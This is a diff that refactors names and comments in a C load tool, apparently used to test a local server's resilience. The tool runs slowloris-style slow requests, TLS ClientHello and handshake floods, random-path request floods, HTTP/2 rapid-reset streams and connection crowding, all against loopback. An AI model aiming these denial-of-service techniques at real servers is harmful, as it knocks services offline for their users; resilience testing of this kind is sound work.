@@ -7,15 +7,15 @@
  * handshake  TLS handshakes as fast as they go: half end in turn once the server has answered their ClientHello, or are
  *            silent then until the server ends them (4 000 in flight at a time, and 6 000 silent ones); half are completed and
  *            then closed (512 in flight).
- * hello      the first half of it alone: the attacker computes nothing, so the server has all of it to bear.
+ * hello      the first half of it alone: the attacker computes nothing, so all CPU time is the server's.
  * unknown    requests for random codes as fast as they are answered: 1 024 kept connections with one request each, and 64 at
  *            a time that make one request and close.
  * reset      HTTP/2 by prior knowledge: streams opened and reset, 500 in one write of each of 64 connections, opened again after
  *            GOAWAY or the end.
  * crowd      6 000 silent connections from one address, each opened again once the server closes it, 2 000 a second at most.
  *
- * Ends at SIGTERM or after SECONDS; one line of JSON then says what was done. A connection is closed by a reset, so that none of
- * this waits for ports. */
+ * Ends at SIGTERM or after SECONDS, then prints one line of JSON with counts. Connections are closed by a reset, so that
+ * no port stays in TIME_WAIT. */
 #define _GNU_SOURCE
 #include <arpa/inet.h>
 #include <errno.h>
@@ -41,8 +41,8 @@ struct connection {
     int fd;            /* -1: a free slot */
     enum kind kind;
     int connected;
-    int shaken;        /* the TLS handshake is done */
-    size_t sent;       /* bytes of what is sent byte by byte */
+    int handshake_done;       /* the TLS handshake is done */
+    size_t sent;       /* bytes sent so far, for kinds that send byte by byte */
     SSL *ssl;
 };
 
@@ -53,14 +53,14 @@ static unsigned char hello[2048], resets[65536];
 static size_t hello_length, resets_length;
 static char head[512], burst[65536], scrap[65536];
 static volatile sig_atomic_t stopped;
-static struct { uint64_t opened, refused, closed_by_server, answered, hellos_answered, handshakes, requests, streams, most_open; } did;
+static struct { uint64_t opened, refused, closed_by_server, answered, hellos_answered, handshakes, requests, streams, most_open; } counts;
 
 static void stop(int signal) {
     (void)signal;
     stopped = 1;
 }
 
-static void end(struct connection *one) {
+static void close_connection(struct connection *one) {
     if (one->ssl) SSL_free(one->ssl);
     close(one->fd);
     open_of[one->kind]--;
@@ -68,8 +68,8 @@ static void end(struct connection *one) {
     free_slots[free_count++] = (int)(one - connections);
 }
 
-/* Begins to connect; 0 if there is no room. */
-static int begin(enum kind kind) {
+/* Starts to connect. Returns 0 if no slot is free or the kernel refuses. */
+static int open_connection(enum kind kind) {
     if (!free_count) return 0;
     int over_tls = kind == HELLO || kind == TLS_HEAD || kind == LEAVES || kind == SILENT || kind == COMPLETES, on = 1;
     int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
@@ -87,7 +87,7 @@ static int begin(enum kind kind) {
     struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((uint16_t)ports[over_tls]), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
     if (bind(fd, (struct sockaddr *)&from, sizeof from) < 0 ||
         (connect(fd, (struct sockaddr *)&to, sizeof to) < 0 && errno != EINPROGRESS)) {
-        did.refused++;
+        counts.refused++;
         close(fd);
         return 0;
     }
@@ -95,14 +95,14 @@ static int begin(enum kind kind) {
     *one = (struct connection){.fd = fd, .kind = kind};
     struct epoll_event event = {.events = EPOLLIN | EPOLLOUT | EPOLLRDHUP | EPOLLET, .data.ptr = one};
     if (epoll_ctl(epoll, EPOLL_CTL_ADD, fd, &event) < 0) fail("epoll_ctl");
-    did.opened++;
+    counts.opened++;
     open_of[kind]++;
     uint64_t open = (uint64_t)(MOST - free_count);
-    if (open > did.most_open) did.most_open = open;
+    if (open > counts.most_open) counts.most_open = open;
     return 1;
 }
 
-static void ask(struct connection *one) {
+static void send_random_code_request(struct connection *one) {
     static uint64_t random = 88172645463325252u;
     static const char letters[] = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";
     random ^= random << 13, random ^= random >> 7, random ^= random << 17;
@@ -110,15 +110,15 @@ static void ask(struct connection *one) {
     uint64_t rest = random;
     for (int i = 0; i < 8; i++, rest /= 62) code[i] = letters[rest % 62];
     int length = snprintf(request, sizeof request, "GET /%s HTTP/1.1\r\nHost: go.example.com\r\nUser-Agent: x\r\nAccept: */*\r\n\r\n", code);
-    if (write(one->fd, request, (size_t)length) == length) did.requests++;
+    if (write(one->fd, request, (size_t)length) == length) counts.requests++;
 }
 
-/* The connection is there. */
-static void start(struct connection *one) {
+/* Sends what its kind sends first, once a connection is established. */
+static void on_connected(struct connection *one) {
     one->connected = 1;
     switch (one->kind) {
     case LEAVES: case SILENT:
-        if (write(one->fd, hello, hello_length) < 0) end(one);
+        if (write(one->fd, hello, hello_length) < 0) close_connection(one);
         break;
     case COMPLETES: case TLS_HEAD:
         one->ssl = SSL_new(tls);
@@ -126,24 +126,24 @@ static void start(struct connection *one) {
         SSL_set_connect_state(one->ssl);
         break;
     case READER:
-        if (write(one->fd, burst, strlen(burst)) > 0) did.requests += 100;
+        if (write(one->fd, burst, strlen(burst)) > 0) counts.requests += 100;
         break;
     case KEPT: case ONCE:
-        ask(one);
+        send_random_code_request(one);
         break;
     default:
         break;
     }
 }
 
-/* A client's handshake as far as it goes. */
-static void shake(struct connection *one) {
+/* Continues a client's handshake until it would block; closes the connection if it fails. */
+static void continue_handshake(struct connection *one) {
     int done = SSL_do_handshake(one->ssl);
     if (done == 1) {
-        one->shaken = 1;
+        one->handshake_done = 1;
     } else {
         int why = SSL_get_error(one->ssl, done);
-        if (why != SSL_ERROR_WANT_READ && why != SSL_ERROR_WANT_WRITE) did.closed_by_server++, end(one);
+        if (why != SSL_ERROR_WANT_READ && why != SSL_ERROR_WANT_WRITE) counts.closed_by_server++, close_connection(one);
     }
 }
 
@@ -151,23 +151,23 @@ static void on_event(struct connection *one, uint32_t events) {
     if (one->fd < 0) return;
     if (!one->connected) {
         if (events & (EPOLLERR | EPOLLHUP)) {
-            did.refused++;
-            end(one);
+            counts.refused++;
+            close_connection(one);
             return;
         }
         if (!(events & EPOLLOUT)) return;
-        start(one);
+        on_connected(one);
         if (one->fd < 0) return;
     }
-    if (one->ssl && !one->shaken) {
-        shake(one);
+    if (one->ssl && !one->handshake_done) {
+        continue_handshake(one);
         return;
     }
     if (one->kind == RESETS && events & EPOLLOUT) {
         /* Stream numbers only grow: each connection gets one write, and what the server does with it is its answer. */
         if (!one->sent && write(one->fd, resets, resets_length) == (ssize_t)resets_length) {
             one->sent = resets_length;
-            did.streams += 500;
+            counts.streams += 500;
         }
     }
     if (one->kind == READER && !(events & (EPOLLERR | EPOLLHUP | EPOLLRDHUP))) return;
@@ -175,42 +175,42 @@ static void on_event(struct connection *one, uint32_t events) {
         ssize_t got;
         while ((got = read(one->fd, scrap, sizeof scrap)) == (ssize_t)sizeof scrap) {}
         if (got == 0 || (got < 0 && errno != EAGAIN)) {
-            did.closed_by_server++;
-            end(one);
+            counts.closed_by_server++;
+            close_connection(one);
         } else if (got > 0) {
-            if (one->kind == LEAVES || (one->kind == SILENT && !one->sent)) did.hellos_answered++, one->sent = 1;
+            if (one->kind == LEAVES || (one->kind == SILENT && !one->sent)) counts.hellos_answered++, one->sent = 1;
             /* A ticket: the server is done as well. */
-            if (one->kind == COMPLETES) did.handshakes++;
-            if (one->kind == LEAVES || one->kind == COMPLETES) end(one);
+            if (one->kind == COMPLETES) counts.handshakes++;
+            if (one->kind == LEAVES || one->kind == COMPLETES) close_connection(one);
             /* GOAWAY: this connection has done what it could. */
             for (size_t at = 0; one->kind == RESETS && one->fd >= 0 && at + 9 <= (size_t)got;) {
                 const unsigned char *frame = (const unsigned char *)scrap + at;
-                if (frame[3] == 7) did.closed_by_server++, end(one);
+                if (frame[3] == 7) counts.closed_by_server++, close_connection(one);
                 at += 9 + ((size_t)frame[0] << 16 | (size_t)frame[1] << 8 | frame[2]);
             }
             if (one->kind == KEPT || one->kind == ONCE) {
-                did.answered++;
-                if (one->kind == KEPT) ask(one);
-                else end(one);
+                counts.answered++;
+                if (one->kind == KEPT) send_random_code_request(one);
+                else close_connection(one);
             }
         }
     }
 }
 
-/* The next byte of those that send or read one a second. */
-static void dribble(struct connection *one) {
+/* Called once a second for a connection that sends or reads one byte a second. */
+static void send_or_read_one_byte(struct connection *one) {
     if (one->fd < 0 || !one->connected || one->kind > READER) return;
     int sent = 1;
     if (one->kind == HEAD) sent = (int)write(one->fd, head + one->sent % (sizeof head - 1), 1);
     else if (one->kind == HELLO && one->sent < hello_length) sent = (int)write(one->fd, hello + one->sent, 1);
-    else if (one->kind == TLS_HEAD && one->shaken) sent = SSL_write(one->ssl, head + one->sent % (sizeof head - 1), 1);
+    else if (one->kind == TLS_HEAD && one->handshake_done) sent = SSL_write(one->ssl, head + one->sent % (sizeof head - 1), 1);
     else if (one->kind == READER) sent = read(one->fd, scrap, 1) != 0;
     one->sent++;
-    if (sent <= 0) did.closed_by_server++, end(one);
+    if (sent <= 0) counts.closed_by_server++, close_connection(one);
 }
 
-static void prepare(const char *path) {
-    /* A head whose last field never ends. */
+static void build_payloads(const char *path) {
+    /* A request head whose last field has no end. */
     memset(head, 'x', sizeof head);
     int length = snprintf(head, sizeof head, "GET %s HTTP/1.1\r\nHost: go.example.com\r\nUser-Agent: ", path);
     head[length] = 'x';
@@ -242,8 +242,8 @@ static void prepare(const char *path) {
     resets_length = (size_t)(at - resets);
 }
 
-static void fill(enum kind kind, int most, int at_once) {
-    while (at_once-- && open_of[kind] < most && begin(kind)) {}
+static void open_up_to(enum kind kind, int most, int at_once) {
+    while (at_once-- && open_of[kind] < most && open_connection(kind)) {}
 }
 
 int main(int argc, char **argv) {
@@ -254,7 +254,7 @@ int main(int argc, char **argv) {
     const char *attack = argv[1];
     ports[0] = atoi(argv[2]), ports[1] = atoi(argv[3]);
     signal(SIGTERM, stop), signal(SIGINT, stop), signal(SIGPIPE, SIG_IGN);
-    prepare(argv[4]);
+    build_payloads(argv[4]);
     for (int i = 0; i < MOST; i++) connections[i].fd = -1, free_slots[free_count++] = MOST - 1 - i;
     if ((epoll = epoll_create1(0)) < 0) fail("epoll_create1");
 
@@ -262,17 +262,17 @@ int main(int argc, char **argv) {
     unsigned ticks = 0;
     while (!stopped && now() < deadline) {
         if (!strcmp(attack, "slow")) {
-            fill(HEAD, 800, 8), fill(HELLO, 400, 4), fill(TLS_HEAD, 400, 4), fill(READER, 400, 4);
+            open_up_to(HEAD, 800, 8), open_up_to(HELLO, 400, 4), open_up_to(TLS_HEAD, 400, 4), open_up_to(READER, 400, 4);
         } else if (!strcmp(attack, "handshake")) {
-            fill(SILENT, 6000, 4), fill(LEAVES, 4000, 4), fill(COMPLETES, 512, 8);
+            open_up_to(SILENT, 6000, 4), open_up_to(LEAVES, 4000, 4), open_up_to(COMPLETES, 512, 8);
         } else if (!strcmp(attack, "hello")) {
-            fill(SILENT, 6000, 8), fill(LEAVES, 4000, 8);
+            open_up_to(SILENT, 6000, 8), open_up_to(LEAVES, 4000, 8);
         } else if (!strcmp(attack, "unknown")) {
-            fill(KEPT, 1024, 16), fill(ONCE, 64, 8);
+            open_up_to(KEPT, 1024, 16), open_up_to(ONCE, 64, 8);
         } else if (!strcmp(attack, "reset")) {
-            fill(RESETS, 64, 8);
+            open_up_to(RESETS, 64, 8);
         } else if (!strcmp(attack, "crowd")) {
-            fill(CROWD, 6000, 0);
+            open_up_to(CROWD, 6000, 0);
         } else {
             fprintf(stderr, "no such attack: %s\n", attack);
             return 64;
@@ -283,15 +283,15 @@ int main(int argc, char **argv) {
         for (int i = 0; i < ready; i++) on_event(events[i].data.ptr, events[i].events);
         if (now() >= tick) {
             tick += TICK_NS, ticks++;
-            for (unsigned i = ticks % 10; i < MOST; i += 10) dribble(&connections[i]);
-            if (!strcmp(attack, "crowd")) fill(CROWD, 6000, 200);
+            for (unsigned i = ticks % 10; i < MOST; i += 10) send_or_read_one_byte(&connections[i]);
+            if (!strcmp(attack, "crowd")) open_up_to(CROWD, 6000, 200);
         }
     }
     double seconds = (double)(now() - began) / 1e9;
     printf("{\"seconds\":%.3f,\"opened\":%llu,\"refused\":%llu,\"closed_by_server\":%llu,\"answered\":%llu,\"hellos_answered\":%llu,"
            "\"handshakes\":%llu,\"requests\":%llu,\"streams\":%llu,\"most_open\":%llu,\"open\":%d}\n", seconds,
-           (unsigned long long)did.opened, (unsigned long long)did.refused, (unsigned long long)did.closed_by_server,
-           (unsigned long long)did.answered, (unsigned long long)did.hellos_answered, (unsigned long long)did.handshakes,
-           (unsigned long long)did.requests, (unsigned long long)did.streams, (unsigned long long)did.most_open, MOST - free_count);
+           (unsigned long long)counts.opened, (unsigned long long)counts.refused, (unsigned long long)counts.closed_by_server,
+           (unsigned long long)counts.answered, (unsigned long long)counts.hellos_answered, (unsigned long long)counts.handshakes,
+           (unsigned long long)counts.requests, (unsigned long long)counts.streams, (unsigned long long)counts.most_open, MOST - free_count);
     return 0;
 }
